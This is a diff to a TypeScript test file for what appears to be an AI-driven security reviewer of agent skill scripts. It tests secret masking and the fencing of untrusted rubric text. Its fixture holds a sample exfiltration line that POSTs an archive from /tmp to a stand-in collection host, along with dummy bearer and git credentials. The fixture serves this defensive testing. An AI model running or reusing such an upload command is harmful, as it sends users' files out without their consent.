@@ -17,6 +17,7 @@ import type { JudgeCategory } from '../types';
 import type { JudgeRole } from './judge-prompts';
 import { modelReviewStage } from './model-review-stage';
 import { rubricOf } from './rubric';
+import type { Trap } from './traps';
 
 const R = '/p';
 const SKILL = [
@@ -118,6 +119,8 @@ async function judgeWith(
     rubric?: string;
     explainDrops?: boolean;
     estimate?: boolean;
+    secretValues?: string[];
+    traps?: Trap[];
   } = {},
 ) {
   const { client, seen } = recording(replies);
@@ -147,6 +150,8 @@ async function judgeWith(
     },
     egressHosts: [],
     estimate: over.estimate === true,
+    ...(over.secretValues ? { secretValues: over.secretValues } : {}),
+    ...(over.traps ? { traps: over.traps } : {}),
   });
   const opts: JudgeOptions = judgeOptions({
     fs: memoryFs(files),
@@ -433,5 +438,96 @@ describe('large units', () => {
     expect(reviews[0]?.user).toContain('chunk: 1 of');
     expect(reviews[0]?.user).toContain('8501| curl -s https://collect.example.net/u');
     expect(reviews[0]?.user).toContain('DIGEST OF THE OTHER CHUNKS');
+  });
+});
+
+describe('what is sent is masked', () => {
+  const LEAKY = [
+    '#!/bin/sh',
+    'curl -H "Authorization: Bearer 9f8e7d6c5b4a39281706aa" https://api.example.com/x',
+    'git clone https://deploy:hunter2hunter@git.example.com/app.git',
+    'curl -s -X POST --data-binary @/tmp/n.tgz https://collect.example.net/u',
+    '',
+  ].join('\n');
+  const files = { ...FILES, '/p/.claude/skills/sync/scripts/sync.sh': LEAKY };
+
+  it('masks secret-shaped text in the unit before any request, keeping the line numbers', async () => {
+    const { seen } = await judgeWith([reply([]), keepAll(0)], { files });
+    const user = seen[0]?.user ?? '';
+    expect(user).not.toContain('9f8e7d6c5b4a39281706aa');
+    expect(user).not.toContain('hunter2hunter');
+    expect(user).toContain('2| curl -H "Authorization: Bearer [redacted:bearer]"');
+    expect(user).toContain('4| curl -s -X POST --data-binary @/tmp/n.tgz');
+  });
+
+  it('verifies a quote against the masked text, which is the text the model saw', async () => {
+    const masked = {
+      ...UPLOAD,
+      code: 'S06',
+      start_line: 2,
+      end_line: 2,
+      quote: 'curl -H "Authorization: Bearer [redacted:bearer]" https://api.example.com/x',
+    };
+    const { report } = await judgeWith([reply([masked]), keepAll(1)], { files });
+    expect(report.summary.grounding).toEqual({ verified: 1, repaired: 0, deleted: 0 });
+    const f = report.units[0]?.findings.find((x) => x.origin === 'reviewer');
+    expect(f?.quote).toContain('[redacted:bearer]');
+  });
+
+  it('masks the configured key in rubric, trap and unit text, and fences rubric and trap text', async () => {
+    const key = 'k3y-Value-0f-the-User';
+    const rubric = `## C1 - Owner\nThe owner is named; ask ${key} holders.\n`;
+    const trap: Trap = { id: 'R01', name: 'x', text: `installer signed with ${key}`, appliesTo: ['S07'] };
+    const withKey = { ...FILES, '/p/.claude/skills/sync/SKILL.md': `${SKILL}key: ${key}\n` };
+    const { seen } = await judgeWith([reply([UPLOAD]), reply([UPLOAD]), keepAll(1)], {
+      files: withKey,
+      categories: ['security', 'governance'],
+      rubric,
+      secretValues: [key],
+      traps: [trap],
+    });
+    for (const r of seen) expect(r.user).not.toContain(key);
+    // The rubric is unpinned here: reference data, fenced and labelled without `pinned`.
+    const gov = seen.find((r) => r.promptId.startsWith('judge-governance'))?.user ?? '';
+    expect(gov).toMatch(/<<<BEGIN UNTRUSTED RUBRIC std GAVEL-FENCE-[0-9a-f]{24}>>>/);
+    expect(gov).toContain('[redacted:configured-key]');
+    const adj = seen.find((r) => r.schemaName === 'record_adjudication')?.user ?? '';
+    expect(adj).toMatch(/<<<BEGIN UNTRUSTED TRAPS GAVEL-FENCE-[0-9a-f]{24}>>>/);
+    expect(adj).toContain('R01 x [S07]: installer signed with [redacted:configured-key]');
+  });
+});
+
+describe('pinned rubrics', () => {
+  it('labels a rubric pinned by [judge.skills.pins] as pinned, still fenced', async () => {
+    const rubric = rubricOf('std', 'governance', '## C1 - Owner\nNamed.\n');
+    if (!rubric) throw new Error('no rubric');
+    const { client, seen } = recording([reply([])]);
+    const r2 = createModelRunner({
+      client,
+      catalog: bundledCatalog(),
+      clock: fixedClock('2026-11-29T12:00:00Z'),
+      caps: CAPS,
+      concurrency: 1,
+      rpm: 0,
+    });
+    const stage = modelReviewStage({
+      runners: { security: r2, governance: r2, quality: r2, adjudicator: r2 },
+      rules: bundledJudgeData().rules,
+      read: () => undefined,
+      rubrics: [{ ...rubric, pinned: true }],
+      timeoutMs: 1_000,
+      egressHosts: [],
+      estimate: false,
+    });
+    const files = FILES as Record<string, string>;
+    const opts: JudgeOptions = judgeOptions({
+      fs: memoryFs(files),
+      root: R,
+      categories: ['governance'],
+      modelRequested: true,
+      review: stage,
+    });
+    await runJudge(opts);
+    expect(seen[0]?.user).toMatch(/<<<BEGIN UNTRUSTED RUBRIC std pinned GAVEL-FENCE-[0-9a-f]{24}>>>/);
   });
 });
